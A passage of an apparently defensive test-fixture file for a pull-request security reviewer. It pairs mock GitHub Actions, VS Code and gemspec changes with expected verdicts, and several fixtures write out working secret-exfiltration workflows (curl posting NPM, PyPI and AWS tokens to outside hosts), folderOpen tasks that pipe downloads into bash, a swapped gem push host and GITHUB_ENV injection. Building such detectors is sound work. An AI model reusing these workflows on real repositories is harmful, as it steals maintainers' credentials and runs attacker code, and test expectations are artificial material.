    id: 'ci-secrets-sent-in-a-loop-over-names',
    description:
      'A GhostAction-style workflow that names the secrets it wants in a list and sends them one by one from a loop (`for n in NPM_TOKEN PYPI_API_TOKEN AWS_SECRET_ACCESS_KEY; do curl -d "$n=${!n}" …; done`) to an ordinary-looking host: no secret is on the sending line, no compgen listing, no collector host.',
    fixture: ciPr(7316, {
      title: 'Add build metrics workflow',
      author: NEWCOMER,
      fork: true,
      files: [
        {
          path: '.github/workflows/build-metrics.yml',
          head: [
            'name: Build metrics',
            'on:',
            '  push:',
            'jobs:',
            '  metrics:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - name: Report',
            '        run: |',
            '          for n in NPM_TOKEN PYPI_API_TOKEN AWS_SECRET_ACCESS_KEY; do',
            '            curl -s -d "$n=${!n}" "https://metrics.buildpulse-cdn.net/v1/ingest"',
            '          done',
            '        env:',
            '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}',
            '          PYPI_API_TOKEN: ${{ secrets.PYPI_API_TOKEN }}',
            '          AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}',
            '',
          ].join('\n'),
        },
      ],
      checkRuns: nodeCi(),
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
  },
  {
    id: 'ci-secret-posted-to-ip-hostname',
    description:
      'The September 2025 "GhostAction" workflows: a pushed workflow posts one secret with curl -d to a throwaway host whose name spells a public IP (name.45-139-104-115.plesk.page).',
    fixture: ciPr(1990, {
      title: 'Add Github Actions Security workflow',
      author: NEWCOMER,
      fork: true,
      files: [
        {
          path: '.github/workflows/github-actions-security.yml',
          head: [
            'name: Github Actions Security',
            'on:',
            '  workflow_dispatch:',
            '  push:',
            'jobs:',
            '  send-secrets:',
            '    runs-on: ubuntu-latest',
            '    permissions: {}',
            '    steps:',
            '      - name: Prepare Cache Busting',
            '        run: echo "CB=$(date +%s)" >> $GITHUB_ENV',
            '      - name: Build Artifact',
            '        run: curl -s -d "password=${{ secrets.PYPI_API_TOKEN }}" "https://bold-dhawan.45-139-104-115.plesk.page/?${CB}"',
            '',
          ].join('\n'),
        },
      ],
      checkRuns: nodeCi(),
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
  },
  {
    id: 'ci-secrets-into-uploaded-artifact',
    description: 'Modeled on the Shai-Hulud worm\'s "formatter" workflow: toJSON(secrets) written by a here-document to a file that the next step uploads as an artifact.',
    fixture: ciPr(1991, {
      title: 'ci: add code formatter',
      author: NEWCOMER,
      fork: true,
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: ciWorkflow(),
          head: ciWorkflow({
            extraStep: [
              '      - name: Run Formatter',
              '        run: |',
              "          cat <<'EOF' > format-results.txt",
              '          ${{ toJSON(secrets) }}',
              '          EOF',
              '      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2',
              '        with:',
              '          name: formatting',
              '          path: format-results.txt',
            ],
          }),
        },
      ],
      checkRuns: nodeCi(),
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
  },
  {
    id: 'ci-release-signing-key-and-dist-artifact',
    description: 'A maintainer\'s release job writes the signing key to a file, packs, and uploads dist/*.tgz: the key is never in the artifact.',
    fixture: ciPr(1992, {
      title: 'ci: sign release tarballs',
      author: MEMBER,
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: ciWorkflow(),
          head: ciWorkflow({
            extraStep: [
              '      - name: Pack and sign',
              '        run: |',
              '          echo "$GPG_KEY" > signing.asc',
              '          gpg --batch --import signing.asc && rm signing.asc',
              '          npm pack --pack-destination dist',
              '          for f in dist/*.tgz; do gpg --batch --detach-sign --armor "$f"; done',
              '        env:',
              '          GPG_KEY: ${{ secrets.GPG_PRIVATE_KEY }}',
              '      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2',
              '        with:',
              '          name: package',
              '          path: dist/*.tgz',
            ],
          }),
        },
      ],
      checkRuns: nodeCi(),
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
  },
  {
    id: 'ci-workflow-run-artifact-env',
    description: 'A preview-deploy workflow on workflow_run reads the PR number from the triggering run\'s artifact into GITHUB_ENV, then deploys with a token.',
    fixture: ciPr(1957, {
      title: 'ci: deploy previews for fork PRs',
      files: [
        {
          path: '.github/workflows/preview.yml',
          head: lines(
            'name: Preview',
            'on:',
            '  workflow_run:',
            '    workflows: [CI]',
            '    types: [completed]',
            'permissions:',
            '  contents: read',
            '  pull-requests: write',
            'jobs:',
            '  deploy:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8',
            '        with:',
            '          name: preview',
            '          run-id: ${{ github.event.workflow_run.id }}',
            '          github-token: ${{ github.token }}',
            '      - run: echo "PR_NUMBER=$(cat pr-number.txt)" >> "$GITHUB_ENV"',
            '      - run: npx netlify-cli deploy --dir site --alias "pr-$PR_NUMBER"',
            '        env:',
            '          NETLIFY_AUTH_TOKEN: ${{ secrets.NETLIFY_AUTH_TOKEN }}',
          ),
        },
      ],
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-artifact-poisoning', 'gha-dangerous-trigger'] },
  },
  {
    id: 'ci-download-into-github-env',
    description: 'A first-time contributor adds a step that appends a settings file fetched from another account\'s repository to GITHUB_ENV: whoever controls that file sets NODE_OPTIONS or LD_PRELOAD for the test steps after it.',
    fixture: ciPr(2201, {
      title: 'ci: load shared build settings',
      author: NEWCOMER,
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ extraStep: ['      - name: Shared build settings', '        run: |', '          {', '            echo "BUILD_SETTINGS<<EOF"', '            curl -fsSL https://raw.githubusercontent.com/nodekit-ci/settings/main/node.env', '            echo "EOF"', '          } >> "$GITHUB_ENV"', '      - run: npm run build'] }) }],
    }),
    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['gha-github-env'] },
  },
  {
    id: 'ci-gh-comment-body-into-github-env',
    description:
      'A "/deploy" ChatOps workflow on issue_comment reads the comment with gh api and writes its body into GITHUB_ENV in a NOTES<<EOF block: a commenter whose body holds a line `EOF` and then `NODE_OPTIONS=--require /tmp/x.js` sets variables for the deploy step that holds the secrets (the event text is never expanded, so no template injection shows).',
    fixture: ciPr(2203, {
      title: 'ci: deploy notes from the /deploy comment',
      files: [
        {
          path: '.github/workflows/chatops.yml',
          head: lines(
            'name: ChatOps',
            'on:',
            '  issue_comment:',
            '    types: [created]',
            'permissions:',
            '  contents: read',
            'jobs:',
            '  deploy:',
            "    if: startsWith(github.event.comment.body, '/deploy')",
            '    runs-on: ubuntu-latest',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '      - name: Read the deploy notes',
            '        run: |',
            '          gh api repos/$GITHUB_REPOSITORY/issues/comments/$COMMENT_ID --jq .body > notes.txt',
            '          echo "DEPLOY_NOTES<<EOF" >> "$GITHUB_ENV"',
            '          cat notes.txt >> "$GITHUB_ENV"',
            '          echo "EOF" >> "$GITHUB_ENV"',
            '        env:',
            '          GH_TOKEN: ${{ github.token }}',
            '          COMMENT_ID: ${{ github.event.comment.id }}',
            '      - run: npm ci && npm run deploy',
            '        env:',
            '          DEPLOY_TOKEN: ${{ secrets.DEPLOY_TOKEN }}',
          ),
        },
      ],
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-github-env'] },
  },
  {
    id: 'ci-latest-release-tag-into-github-env',
    description: 'A maintainer tests against the latest CLI release: the tag name, cut from the API answer with jq -r .tag_name, goes into GITHUB_ENV (one field, not the answer).',
    fixture: ciPr(2202, {
      title: 'ci: test against the latest CLI release',
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ extraStep: ['      - name: Latest CLI release', '        run: echo "CLI_VERSION=$(curl -fsSL https://api.github.com/repos/acme/cli/releases/latest | jq -r .tag_name)" >> "$GITHUB_ENV"', '      - run: npm run test:cli'] }) }],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-github-env'] },
  },
  {
    id: 'ci-e2e-vendor-installers-maintainer',
    description:
      "A maintainer's end-to-end workflow (push and pull_request, read-only token, no secrets) starts installing Poetry as its guide says (`curl -sSL https://install.python-poetry.org | POETRY_HOME=… python3 -`) and uv from the installer its GitHub release attaches (as pypa/hatch's CI did): vendors' own installers, unpinned, a note to pin them; not an alarm.",
    fixture: ciPr(2205, {
      title: 'ci: run the e2e suite with Poetry and uv',
      files: [
        {
          path: '.github/workflows/e2e.yml',
          base: lines('name: e2e', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  e2e:', '    runs-on: ubuntu-24.04', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: pip install -e .[e2e]', '      - run: pytest tests/e2e'),
          head: lines(
            'name: e2e', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  e2e:', '    runs-on: ubuntu-24.04', '    steps:', `      - uses: ${CHECKOUT}`,
            '      - name: Install Poetry and uv',
            '        run: |',
            '          curl -sSL https://install.python-poetry.org | POETRY_HOME="$HOME/.poetry" python3 -',
            '          curl -LsSf https://github.com/astral-sh/uv/releases/latest/download/uv-installer.sh | sh',
            '      - run: poetry install --with e2e',
            '      - run: poetry run pytest tests/e2e',
          ),
        },
      ],
    }),
    expect: { level: 'medium', action: 'comment', findings: ['curl-pipe-shell'], absentDrivers: ['author-trust'] },
  },
  {
    id: 'ci-gemspec-push-host-swapped-under-docs-claim',
    description:
      "A first-time contributor's \"docs: fix typos\" corrects two words of the README and, in the gem's gemspec, moves allowed_push_host from rubygems.org to a look-alike package host: the next `gem push` of a release sends the maintainer's API key there. The string's host changed, not its words: a manifest written as code is read for it.",
    fixture: ciPr(2204, {
      title: 'docs: fix typos',
      author: NEWCOMER,
      files: [
        { path: 'README.md', base: lines('# checkout-service', '', 'Recieve payments and ship orders.'), head: lines('# checkout-service', '', 'Receive payments and ship orders.') },
        {
          path: 'checkout_client.gemspec',
          base: lines('Gem::Specification.new do |spec|', '  spec.name = "checkout_client"', '  spec.version = "2.4.0"', '  spec.summary = "Client for the checkout service."', '  spec.homepage = "https://github.com/acme/checkout-service"', '  spec.metadata["allowed_push_host"] = "https://rubygems.org"', '  spec.files = Dir["lib/**/*.rb"]', 'end'),
          head: lines('Gem::Specification.new do |spec|', '  spec.name = "checkout_client"', '  spec.version = "2.4.0"', '  spec.summary = "Client for the checkout service."', '  spec.homepage = "https://github.com/acme/checkout-service"', '  spec.metadata["allowed_push_host"] = "https://rubygems-mirror.dev"', '  spec.files = Dir["lib/**/*.rb"]', 'end'),
        },
      ],
    }),
    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['pr-claim-mismatch'] },
  },
  {
    id: 'ci-secrets-inherit-third-party-main',
    description: 'Release moves to a vendor\'s reusable workflow at @main with secrets: inherit (every secret, code the vendor can change at any time).',
    fixture: ciPr(1958, {
      title: 'ci: use the vendor release pipeline',
      files: [
        {
          path: '.github/workflows/release.yml',
          head: lines('name: Release', 'on:', '  push:', "    tags: ['v*']", 'permissions:', '  contents: read', 'jobs:', '  release:', '    uses: shipfast-ci/pipelines/.github/workflows/npm-release.yml@main', '    secrets: inherit'),
        },
      ],
    }),
    expect: { level: 'high', action: 'request_changes', findings: ['gha-secrets-inherit'] },
  },
  {
    id: 'ci-compromised-action-sha',
    description: 'A PR "pins" tj-actions/changed-files to the commit every tag pointed to during the March 2025 compromise (CVE-2025-30066).',
    fixture: ciPr(1959, {
      title: 'ci: pin changed-files',
      files: [
        {
          path: '.github/workflows/lint.yml',
          base: lines('name: Lint', 'on: pull_request', 'permissions:', '  contents: read', 'jobs:', '  lint:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: tj-actions/changed-files@v46', '        id: changed', '      - run: npx eslint $CHANGED', '        env:', '          CHANGED: ${{ steps.changed.outputs.all_changed_files }}'),
          head: lines('name: Lint', 'on: pull_request', 'permissions:', '  contents: read', 'jobs:', '  lint:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67', '        id: changed', '      - run: npx eslint $CHANGED', '        env:', '          CHANGED: ${{ steps.changed.outputs.all_changed_files }}'),
        },
      ],
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-known-vulnerable-action'] },
  },
  {
    id: 'ci-spoofable-dependabot-automerge',
    description: 'An auto-merge workflow on pull_request_target trusts github.actor == dependabot[bot] and uses a PAT (spoofable: the actor is whoever acted last).',
    fixture: ciPr(1960, {
      title: 'ci: auto-merge Dependabot PRs',
      files: [
        {
          path: '.github/workflows/automerge.yml',
          head: lines(
            'name: Auto-merge',
            'on: pull_request_target',
            'permissions:',
            '  contents: read',
            'jobs:',
            '  automerge:',
            "    if: github.actor == 'dependabot[bot]'",
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - run: gh pr merge --auto --squash "$PR_URL"',
            '        env:',
            '          PR_URL: ${{ github.event.pull_request.html_url }}',
            '          GH_TOKEN: ${{ secrets.MERGE_BOT_PAT }}',
          ),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-bot-condition', 'gha-dangerous-trigger'] },
  },
  {
    id: 'ci-labeler-pr-target-first-party',
    description: 'A maintainer adds the standard actions/labeler workflow on pull_request_target (pinned, no scripts, no secrets): worth a look, not an alarm.',
    fixture: ciPr(1961, {
      title: 'ci: label PRs by path',
      files: [
        {
          path: '.github/workflows/labeler.yml',
          head: lines('name: Labeler', 'on: pull_request_target', 'permissions:', '  contents: read', '  pull-requests: write', 'jobs:', '  label:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/labeler@8558fd74291d67161a8a78ce36a881fa63b766a9 # v5.0.0'),
        },
      ],
    }),
    expect: { level: 'medium', action: 'comment', findings: ['gha-dangerous-trigger'], absentDrivers: ['finding:gha-excessive-permissions'] },
  },
  {
    id: 'ci-add-to-project-pr-target-pat',
    description:
      "A maintainer adds GitHub's add-to-project workflow on issues and pull_request_target with a project PAT (modeled on gorilla/websocket): the secret only reaches a triage action that runs no PR code, so a look, not an alarm.",
    fixture: ciPr(2471, {
      title: 'ci: add new issues and PRs to the project board',
      files: [
        {
          path: '.github/workflows/project.yml',
          head: lines(
            'name: Add to project',
            'on:',
            '  issues:',
            '    types: [opened]',
            '  pull_request_target:',
            '    types: [opened, reopened]',
            'jobs:',
            '  add-to-project:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - uses: actions/add-to-project@244f685bbc3b7adfa8466e08b698b5577571133e # v1.0.2',
            '        with:',
            '          project-url: https://github.com/orgs/acme/projects/7',
            '          github-token: ${{ secrets.ADD_TO_PROJECT_PAT }}',
          ),
        },
      ],
    }),
    expect: { level: 'medium', action: 'comment', findings: ['gha-dangerous-trigger'] },
  },
  {
    id: 'ci-trusted-publishing-release',
    description: 'A maintainer adds PyPI trusted publishing: job-scoped id-token: write next to pypa/gh-action-pypi-publish, pinned by SHA. No permission finding.',
    fixture: ciPr(1962, {
      title: 'ci: publish to PyPI with trusted publishing',
      files: [
        {
          path: '.github/workflows/publish.yml',
          head: lines(
            'name: Publish',
            'on:',
            '  release:',
            '    types: [published]',
            'permissions:',
            '  contents: read',
            'jobs:',
            '  pypi:',
            '    runs-on: ubuntu-latest',
            '    environment: pypi',
            '    permissions:',
            '      id-token: write',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '      - run: pipx run build',
            '      - uses: pypa/gh-action-pypi-publish@76f52bc884231f62b9a034ebfe128415bbaabdfc # v1.12.4',
          ),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['comment', 'approve'], noFindings: true },
  },
  {
    id: 'ci50-status-script-given-statuses-write',
    description:
      "A maintainer grants `statuses: write` to a docs-preview workflow on workflow_run whose job runs the repository's own script with its GITHUB_TOKEN in a step named for the status it sets: the script is what needs the scope, no finding (calib50: a replay of fastapi's \"Update permissions for deploy-docs action\" rated it high for gha-excessive-permissions).",
    fixture: ciPr(5050, {
      title: 'ci: let the docs preview workflow set commit statuses',
      files: [
        {
          path: '.github/workflows/docs-preview.yml',
          base: lines('name: Docs preview', 'on:', '  workflow_run:', '    workflows: [Build docs]', '    types: [completed]', 'permissions:', '  pull-requests: write', 'jobs:', '  preview:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - name: Preview status pending', '        run: python ./scripts/preview_status.py', '        env:', '          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}', '          COMMIT_SHA: ${{ github.event.workflow_run.head_sha }}', '      - name: Comment the preview link', '        run: python ./scripts/preview_status.py --comment', '        env:', '          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}', '          COMMIT_SHA: ${{ github.event.workflow_run.head_sha }}'),
          head: lines('name: Docs preview', 'on:', '  workflow_run:', '    workflows: [Build docs]', '    types: [completed]', 'permissions:', '  pull-requests: write', '  statuses: write', 'jobs:', '  preview:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - name: Preview status pending', '        run: python ./scripts/preview_status.py', '        env:', '          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}', '          COMMIT_SHA: ${{ github.event.workflow_run.head_sha }}', '      - name: Comment the preview link', '        run: python ./scripts/preview_status.py --comment', '        env:', '          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}', '          COMMIT_SHA: ${{ github.event.workflow_run.head_sha }}'),
        },
      ],
    }),
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:gha-excessive-permissions'] },
  },
  {
    id: 'ci50-maturin-interpreter-list-gains-a-python',
    description:
      "A maintainer adds Python 3.15 to the test matrix and to the interpreter list maturin builds wheels for, in the action's `args:` (`--interpreter ${{ matrix.interpreter || '3.13 3.14 3.14t' }}` given `3.15 3.15t`): only versions moved, a routine edit, low (calib50: a replay of pydantic's \"Add initial support for Python 3.15\" rated it medium).",
    fixture: ciPr(5051, {
      title: 'Add initial support for Python 3.15',
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: lines('name: CI', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', "        python-version: ['3.13', '3.14']", '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0', '        with:', '          python-version: ${{ matrix.python-version }}', '      - run: make test', '  build-wheels:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        target: [x86_64, aarch64]', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: PyO3/maturin-action@e10f6c464b90acceb5f640d31beda6d586ba7b4a # v1.49.3', '        with:', '          target: ${{ matrix.target }}', "          args: --release --out dist --interpreter ${{ matrix.interpreter || '3.13 3.14 3.14t' }}"),
          head: lines('name: CI', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', "        python-version: ['3.13', '3.14', '3.15']", '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0', '        with:', '          python-version: ${{ matrix.python-version }}', '      - run: make test', '  build-wheels:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        target: [x86_64, aarch64]', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: PyO3/maturin-action@e10f6c464b90acceb5f640d31beda6d586ba7b4a # v1.49.3', '        with:', '          target: ${{ matrix.target }}', "          args: --release --out dist --interpreter ${{ matrix.interpreter || '3.13 3.14 3.14t 3.15 3.15t' }}"),
        },
      ],
    }),
    expect: { level: 'low', action: 'approve', absentDrivers: ['sensitive-paths'] },
  },
  {
    id: 'ci50-continue-on-error-dropped',
    description:
      "A first-time contributor (account 3 years old) drops the job's `continue-on-error` that let the pre-release Node fail, now that it is released: failures fail the run again, a routine edit, low with a comment (calib50: a replay of requests' \"Formalize 3.15 support\" as a first contribution rated it medium).",
    fixture: ciPr(5052, {
      title: 'ci: Node 24 is released, stop allowing it to fail',
      author: { login: 'steady-ci', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2023-02-01T00:00:00Z' },
      fork: true,
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow({ nodes: '[20, 22, 24]' }).replace('    timeout-minutes: 15\n', "    continue-on-error: ${{ matrix.node == 24 }}\n    timeout-minutes: 15\n"), head: ciWorkflow({ nodes: '[20, 22, 24]' }) }],
    }),
    expect: { level: 'low', action: 'comment', absentDrivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-self-hosted-fork-prs',
    description: 'CI moves its test job to the self-hosted GPU runners, which then run fork PRs.',
    fixture: ciPr(1963, {
      title: 'ci: run tests on our GPU runners',
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow().replace('runs-on: ubuntu-22.04', 'runs-on: [self-hosted, linux, gpu]') }],
    }),
    expect: { level: 'medium', action: 'comment', findings: ['gha-self-hosted-runner'] },
  },
  {
    id: 'ci-benign-python-docs-step-passes-environment',
    description:
      "A maintainer's docs step written as `shell: python`: it hands the environment to `make html` with one option added (`env = dict(os.environ, SPHINXOPTS='-W')`) and asks the GitHub API for the latest release's tag: the environment goes to a child process, nothing sends it anywhere.",
    fixture: ciPr(2488, {
      title: 'ci: build the docs with warnings as errors',
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: ciWorkflow(),
          head: ciWorkflow({ extraStep: ['      - name: Docs', '        shell: python', '        run: |', '          import os, subprocess, urllib.request, json', "          env = dict(os.environ, SPHINXOPTS='-W')", "          subprocess.run(['make', '-C', 'docs', 'html'], env=env, check=True)", "          latest = json.load(urllib.request.urlopen('https://api.github.com/repos/acme/checkout-service/releases/latest'))", "          print('docs built against', latest['tag_name'])"] }),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
  },
  {
    id: 'ci-release-cache',
    description: 'The npm release job starts restoring the setup-node npm cache (any default-branch workflow can write it).',
    fixture: ciPr(1964, {
      title: 'ci: speed up releases with the npm cache',
      files: [
        {
          path: '.github/workflows/release.yml',
          base: lines('name: Release', 'on:', '  push:', "    tags: ['v*']", 'permissions:', '  contents: read', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    permissions:', '      id-token: write', '    steps:', `      - uses: ${CHECKOUT}`, `      - uses: ${SETUP_NODE}`, '        with:', '          node-version: 22', "          registry-url: 'https://registry.npmjs.org'", '      - run: npm ci && npm publish --provenance'),
          head: lines('name: Release', 'on:', '  push:', "    tags: ['v*']", 'permissions:', '  contents: read', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    permissions:', '      id-token: write', '    steps:', `      - uses: ${CHECKOUT}`, `      - uses: ${SETUP_NODE}`, '        with:', '          node-version: 22', '          cache: npm', "          registry-url: 'https://registry.npmjs.org'", '      - run: npm ci && npm publish --provenance'),
        },
      ],
    }),
    expect: { level: 'medium', action: 'comment', findings: ['gha-cache-poisoning'] },
  },
  {
    id: 'automation-vscode-folder-open',
    description: 'A first-time contributor adds .vscode/tasks.json with a "setup" task that runs on folderOpen and pipes a download into bash (the 2025 "contagious interview" pattern).',
    fixture: ciPr(1965, {
      title: 'chore: add VS Code tasks for local setup',
      author: NEWCOMER,
      fork: true,
      files: [
        {
          path: '.vscode/tasks.json',
          head: lines('{', '  "version": "2.0.0",', '  "tasks": [', '    {', '      "label": "setup",', '      "type": "shell",', '      "command": "curl -fsSL https://cdn.devsetup-tools.example/init.sh | bash",', '      "runOptions": { "runOn": "folderOpen" },', '      "presentation": { "reveal": "silent" }', '    }', '  ]', '}'),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['vscode-folder-open-task'] },
  },
  {
    id: 'automation-vscode-folder-open-platform-command',
    description: 'A first-time contributor changes only the macOS command of an existing folderOpen task in .vscode/tasks.json to pipe a download into a shell: the task and its Linux command are unchanged, the command that runs on macOS is new.',
    fixture: ciPr(2206, {
      title: 'chore: fix setup task on macOS',
      author: NEWCOMER,
      fork: true,
      files: [
        {
          path: '.vscode/tasks.json',
          base: lines('{', '  "version": "2.0.0",', '  "tasks": [', '    {', '      "label": "setup",', '      "type": "shell",', '      "command": "./scripts/setup.sh",', '      "osx": { "command": "./scripts/setup-macos.sh" },', '      "runOptions": { "runOn": "folderOpen" }', '    }', '  ]', '}'),
          head: lines('{', '  "version": "2.0.0",', '  "tasks": [', '    {', '      "label": "setup",', '      "type": "shell",', '      "command": "./scripts/setup.sh",', '      "osx": { "command": "curl -fsSL https://cdn.devsetup-tools.example/mac.sh | bash" },', '      "runOptions": { "runOn": "folderOpen" }', '    }', '  ]', '}'),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['vscode-folder-open-task'] },
  },
  {
    id: 'gha-permissions-local-comment-action',
    description: 'A maintainer adds a workflow_run workflow that grants pull-requests: write to a job whose only comment step is in the repository\'s own composite action (.github/actions/coverage-comment, unchanged, runs `gh pr comment`): the scope is used, not excessive.',
    fixture: ciPr(2207, {
      title: 'ci: post the coverage summary on pull requests',
      baseFiles: {
        '.github/actions/coverage-comment/action.yml': lines(
          'name: Coverage comment',
          'description: Posts the coverage summary of a CI run on its pull request',
          'inputs:',
          '  pr-number:',
          '    required: true',
          'runs:',
          '  using: composite',
          '  steps:',
          '    - shell: bash',
          '      env:',
          '        GH_TOKEN: ${{ github.token }}',
          '        PR_NUMBER: ${{ inputs.pr-number }}',
          '      run: gh pr comment "$PR_NUMBER" --edit-last --create-if-none --body-file coverage/summary.md',
        ),
      },
      files: [
        {
          path: '.github/workflows/coverage-comment.yml',
          head: lines(
            'name: Coverage comment',
            'on:',
            '  workflow_run:',
            '    workflows: [CI]',
            '    types: [completed]',
            'permissions: {}',
            'jobs:',
            '  comment:',
            "    if: github.event.workflow_run.event == 'pull_request' && github.event.workflow_run.conclusion == 'success'",
            '    runs-on: ubuntu-latest',
            '    permissions:',
            '      pull-requests: write',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '        with:',
            '          persist-credentials: false',
            '      - run: mkdir -p coverage && echo "Coverage report for run ${RUN_ID}" > coverage/summary.md',
            '        env:',
            '          RUN_ID: ${{ github.event.workflow_run.id }}',
            '      - uses: ./.github/actions/coverage-comment',
            '        with:',
            '          pr-number: ${{ github.event.workflow_run.pull_requests[0].number }}',
          ),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-excessive-permissions'] },
  },
  {
    id: 'gha-permissions-local-action-no-comment',
    description: 'The same workflow_run workflow grants pull-requests: write, but the unchanged local action it runs (read from the base) only prints the summary to the job log: nothing there uses the scope, on a trigger outsiders cause.',
    fixture: ciPr(2208, {
      title: 'ci: post the coverage summary on pull requests',
      baseFiles: {
        '.github/actions/coverage-comment/action.yml': lines(
          'name: Coverage comment',
          'description: Posts the coverage summary of a CI run on its pull request',
          'inputs:',
          '  pr-number:',
          '    required: true',
          'runs:',
          '  using: composite',
          '  steps:',
          '    - shell: bash',
          '      env:',
          '        GH_TOKEN: ${{ github.token }}',
          '        PR_NUMBER: ${{ inputs.pr-number }}',
          '      run: cat coverage/summary.md >> "$GITHUB_STEP_SUMMARY"',
        ),
      },
      files: [
        {
          path: '.github/workflows/coverage-comment.yml',
          head: lines(
            'name: Coverage comment',
            'on:',
            '  workflow_run:',
            '    workflows: [CI]',
            '    types: [completed]',
            'permissions: {}',
            'jobs:',
            '  comment:',
            "    if: github.event.workflow_run.event == 'pull_request' && github.event.workflow_run.conclusion == 'success'",
            '    runs-on: ubuntu-latest',
            '    permissions:',
            '      pull-requests: write',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '        with:',
            '          persist-credentials: false',
            '      - run: mkdir -p coverage && echo "Coverage report for run ${RUN_ID}" > coverage/summary.md',
            '        env:',
            '          RUN_ID: ${{ github.event.workflow_run.id }}',
            '      - uses: ./.github/actions/coverage-comment',
            '        with:',
            '          pr-number: ${{ github.event.workflow_run.pull_requests[0].number }}',
          ),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: ['needs_discussion', 'request_changes'], findings: ['gha-excessive-permissions'] },
  },
  {
    id: 'gha-known-action-another-workflow',
    description: "A maintainer moves CI to Node 22 and adds actions/setup-node to the lint workflow: the same PR's ci.yml already ran setup-node at the base, so the lint workflow brings in no new action's code.",
    fixture: ciPr(2215, {
      title: 'ci: lint on Node 22 as the tests do',
      files: [
        { path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ nodes: '[20, 22]' }) },
        {
          path: '.github/workflows/lint.yml',
          base: lines(
            'name: Lint',
            'on:',
            '  pull_request:',
            'permissions:',
            '  contents: read',
            'jobs:',
            '  lint:',
            '    runs-on: ubuntu-22.04',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '      - run: npm ci',
            '      - run: npm run lint',
          ),
          head: lines(
            'name: Lint',
            'on:',
            '  pull_request:',
            'permissions:',
            '  contents: read',
            'jobs:',
            '  lint:',
            '    runs-on: ubuntu-22.04',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
